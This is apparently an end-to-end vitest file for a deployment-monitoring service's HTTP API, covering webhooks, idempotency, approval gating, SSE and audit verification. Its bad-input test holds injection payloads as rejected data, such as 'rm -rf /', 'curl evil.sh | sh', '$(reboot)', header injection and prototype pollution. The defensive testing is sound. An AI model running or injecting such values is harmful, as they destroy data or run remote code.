// The HTTP API end to end, in process: the real app (SQLite file, simulated world, loop) on an
// ephemeral port, its clock running 100× so a 5-minute watch takes about three seconds.
import { mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configSchema } from '../../src/config/schema.js';
import { startApp, type RunningApp } from '../../src/app.js';
import type { DeploymentDetailResponse } from '../../src/core/api.js';
import type { TimelineEvent } from '../../src/core/timeline.js';

let app: RunningApp;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'commander-api-'));
  mkdirSync(join(dir, 'dash'));
  writeFileSync(join(dir, 'dash', 'index.html'), '<!doctype html><title>dashboard</title>');
  const config = configSchema.parse({
    server: { port: 0, dashboardDir: join(dir, 'dash') },
    store: { kind: 'sqlite', path: join(dir, 'c.db') },
    watch: { windowSeconds: 300, baselineSeconds: 900, stepSeconds: 15, verifySeconds: 120 },
    clock: { speed: 100 },
    guardrails: { cooldownSeconds: 0, environments: { production: { autoActConfidence: 0.8 }, staging: { autoActConfidence: 0.8, requireApproval: true } } },
  });
  app = await startApp({ config, mode: 'serve', log: () => undefined });
});

afterAll(async () => {
  await app?.close();
  rmSync(dir, { recursive: true, force: true });
});

const post = (path: string, body: string | undefined, headers: Record<string, string> = { 'content-type': 'application/json' }) =>
  fetch(app.url + path, { method: 'POST', headers, ...(body !== undefined ? { body } : {}) });
const get = async <T = unknown>(path: string): Promise<T> => (await (await fetch(app.url + path)).json()) as T;
const DEPLOY = '/api/v1/executions/webhook/devops/deploy';

async function until<T>(fn: () => Promise<T | undefined>, ms = 20_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe('HTTP API', () => {
  it('the concept curl: deploy → summary, decision with confidence and reasons, action, outcome', async () => {
    const res = await post(DEPLOY, JSON.stringify({ service: 'checkout', version: 'v2.0.0' }));
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    const d = await until(async () => {
      const x = await get<DeploymentDetailResponse>(`/api/deployments/${id}`);
      return x.outcome ? x : undefined;
    });
    expect(d.summary?.headline).toBeTruthy();
    const acted = d.decisions.find((x) => x.action !== 'continue')!;
    expect(acted.confidence).toBeGreaterThan(0);
    expect(acted.reasons.length).toBeGreaterThan(0);
    expect(d.actions[0]).toMatchObject({ action: acted.action, status: 'executed', decisionId: acted.id });
    expect(d.outcome?.action).toBe(acted.action);
    expect(d.series?.error_rate?.points.length).toBeGreaterThan(10);
    const list = await get<{ deployments: Array<{ id: string; decision?: unknown; headline?: string }> }>('/api/deployments?service=checkout');
    expect(list.deployments.find((x) => x.id === id)).toMatchObject({ headline: expect.any(String), decision: expect.any(Object) });
  });

  it('concurrent deliveries: every acknowledged one is stored with its received and watch.started events, the chain intact', async () => {
    const n = 120;
    const answers = await Promise.all(
      Array.from({ length: n }, async (_, i) => {
        const r = await post('/api/deployments', JSON.stringify({ service: `burst-${i}`, environment: 'staging', version: `v1.${i}.0` }));
        return { status: r.status, body: (await r.json()) as { id: string; created: boolean } };
      }),
    );
    expect(answers.every((a) => a.status === 201 && a.body.created)).toBe(true);
    const ids = new Set(answers.map((a) => a.body.id));
    expect(ids.size).toBe(n);
    for (const id of ids) {
      const events = await app.store.events(id);
      // written together with the deployment (one write per delivery), each exactly once
      expect(events.slice(0, 2).map((e) => e.type)).toEqual(['deployment.received', 'watch.started']);
      expect(events.filter((e) => e.type === 'watch.started')).toHaveLength(1);
      expect(events[1].seq).toBe(events[0].seq + 1);
      expect(app.scheduler.isWatching(id) || events.some((e) => e.type === 'watch.completed')).toBe(true);
    }
    const v = await get<{ ok: boolean }>('/api/audit/verify?full=1');
    expect(v.ok).toBe(true);
  });

  it('the same delivery twice makes one deployment', async () => {
    const body = JSON.stringify({ service: 'search', version: 'v5.0.1' });
    const a = await post(DEPLOY, body, { 'content-type': 'application/json', 'idempotency-key': 'delivery-77' });
    const b = await post(DEPLOY, body, { 'content-type': 'application/json', 'idempotency-key': 'delivery-77' });
    expect([a.status, b.status]).toEqual([201, 200]);
    const [ja, jb] = (await Promise.all([a.json(), b.json()])) as Array<{ id: string; created: boolean }>;
    expect(jb).toMatchObject({ id: ja.id, created: false });
    const at = '2026-03-02T12:00:00Z';
    const c = await post('/api/deployments', JSON.stringify({ service: 'search', version: 'v5.0.2', at }));
    const e = await post('/api/deployments', JSON.stringify({ service: 'search', version: 'v5.0.2', at }));
    expect([c.status, e.status]).toEqual([201, 200]);
  });

  it('an empty body on the concept path deploys the demo world’s next version', async () => {
    const res = await post(DEPLOY, undefined, {});
    expect(res.status).toBe(201);
    const j = (await res.json()) as { deployment: { source: string; service: string; version: string } };
    expect(j.deployment.source).toBe('demo');
    expect(j.deployment.version).toMatch(/^v\d+\.\d+\.\d+$/);
    // but the generic route needs a body
    expect((await post('/api/deployments', undefined, {})).status).toBe(400);
  });

  it('bad input: a 4xx with a reason, nothing stored, the server stays up', async () => {
    const before = (await get<{ deployments: unknown[] }>('/api/deployments?limit=500')).deployments.length;
    const received = async () => (await get<{ events: TimelineEvent[] }>('/api/audit?type=deployment.received&limit=1000')).events.length;
    const receivedBefore = await received();
    const cases: Array<[string, number, RegExp]> = [
      ['{"service": "checkout", "version": ', 400, /malformed JSON/],
      ['{"service": 5, "version": "v1"}', 400, /service/],
      ['{"service": "checkout; rm -rf /", "version": "v1"}', 400, /service/],
      ['{"service": "checkout", "version": "v1 && curl evil.sh | sh"}', 400, /version/],
      ['{"service": "checkout", "version": "$(reboot)"}', 400, /version/],
      ['{"service": "check\\u0007out", "version": "v1"}', 400, /service/],
      ['{"service": "checkout", "version": "v1\\r\\nX-Injected: 1"}', 400, /version/],
      ['{"__proto__": {"x": 1}, "service": "checkout", "version": "v1"}', 400, /./],
      ['[1,2,3]', 400, /object/],
    ];
    for (const [body, status, reason] of cases) {
      const res = await post(DEPLOY, body);
      expect(res.status, body).toBe(status);
      expect(((await res.json()) as { error: string }).error, body).toMatch(reason);
    }
    const big = JSON.stringify({ service: 'checkout', version: 'v1', pad: 'x'.repeat(10 * 1024 * 1024) });
    const res = await post('/api/deployments', big);
    expect(res.status).toBe(413);
    expect(((await res.json()) as { error: string }).error).toMatch(/limit/);
    const wrongType = await post('/api/deployments', 'service=checkout', { 'content-type': 'application/x-www-form-urlencoded' });
    expect(wrongType.status).toBe(415);
    expect((await get<{ ok: boolean }>('/healthz')).ok).toBe(true);
    expect((await get<{ deployments: unknown[] }>('/api/deployments?limit=500')).deployments.length).toBe(before);
    expect(await received()).toBe(receivedBefore);
    expect((await fetch(app.url + '/api/deployments?status=exploded')).status).toBe(400);
    expect((await fetch(app.url + '/api/deployments/nope')).status).toBe(404);
    expect((await fetch(app.url + '/api/deployments/bad%20id')).status).toBe(400);
  });

  it('waits for a human where approval is required; approve runs the action, a second verdict is refused', async () => {
    const res = await post('/api/deployments', JSON.stringify({ service: 'payments', environment: 'staging', version: 'v3.2.0-bug' }));
    const { id } = (await res.json()) as { id: string };
    const pending = await until(async () => {
      const d = await get<DeploymentDetailResponse>(`/api/deployments/${id}?series=0`);
      return d.decisions.find((x) => x.approval === 'pending');
    });
    expect(pending.guard.mode).toBe('await_approval');
    expect((await get<DeploymentDetailResponse>(`/api/deployments/${id}?series=0`)).deployment.status).toBe('awaiting_approval');
    const bad = await post(`/api/decisions/${pending.id}/approve`, JSON.stringify({ reason: 7 }));
    expect(bad.status).toBe(400);
    const ok = await post(`/api/decisions/${pending.id}/approve`, JSON.stringify({ reason: 'confirmed in the logs' }));
    expect(ok.status).toBe(202);
    expect((await post(`/api/decisions/${pending.id}/reject`, '{}')).status).toBe(409);
    expect((await post(`/api/decisions/depnothing-d1/approve`, '{}')).status).toBe(404);
    const d = await until(async () => {
      const x = await get<DeploymentDetailResponse>(`/api/deployments/${id}?series=0`);
      return x.actions.some((a) => a.status === 'executed') ? x : undefined;
    });
    const approved = d.events.find((e) => e.type === 'action.approved')!;
    expect(approved.payload).toMatchObject({ decisionId: pending.id, reason: 'confirmed in the logs' });
    expect(d.actions[0].decisionId).toBe(pending.id);
  });

  it('live events over SSE replay from Last-Event-ID in seq order', async () => {
    const ctl = new AbortController();
    const res = await fetch(app.url + '/api/events', { headers: { 'last-event-id': '0' }, signal: ctl.signal });
    expect(res.headers.get('content-type')).toMatch(/text\/event-stream/);
    const reader = res.body!.getReader();
    let text = '';
    while ((text.match(/\nid: /g) ?? []).length < 30) text += new TextDecoder().decode((await reader.read()).value);
    ctl.abort();
    const ids = [...text.matchAll(/^id: (\d+)$/gm)].map((m) => Number(m[1]));
    expect(ids.slice(0, 30)).toEqual(Array.from({ length: 30 }, (_, i) => i + 1));
    const first = JSON.parse(/^data: (.*)$/m.exec(text)![1]) as TimelineEvent;
    expect(first).toMatchObject({ seq: 1, type: 'deployment.received' });
  });

  it('audit search and chain verification, health, readiness, metrics, dashboard fallback', async () => {
    const audit = await get<{ events: TimelineEvent[] }>('/api/audit?type=decision.made&limit=5');
    expect(audit.events.length).toBeGreaterThan(0);
    expect(audit.events.every((e) => e.type === 'decision.made')).toBe(true);
    const search = await get<{ events: TimelineEvent[] }>('/api/audit?q=confirmed%20in%20the%20logs');
    expect(search.events.map((e) => e.type)).toContain('action.approved');
    expect(await get('/api/audit/verify')).toMatchObject({ ok: true });
    expect((await fetch(app.url + '/api/audit?limit=0')).status).toBe(400);
    expect(await get('/readyz')).toMatchObject({ ok: true });
    const metrics = await (await fetch(app.url + '/metrics')).text();
    expect(metrics).toMatch(/commander_decisions_total\{action="rollback"\} [1-9]/);
    expect(metrics).toMatch(/commander_tick_duration_seconds_count [1-9]/);
    expect(metrics).toMatch(/commander_sse_clients/);
    const page = await fetch(app.url + '/deployments/some-id');
    expect(page.headers.get('content-type')).toMatch(/text\/html/);
    expect(await page.text()).toMatch(/dashboard/);
    expect((await fetch(app.url + '/api/nothing-here')).status).toBe(404);
  });
});
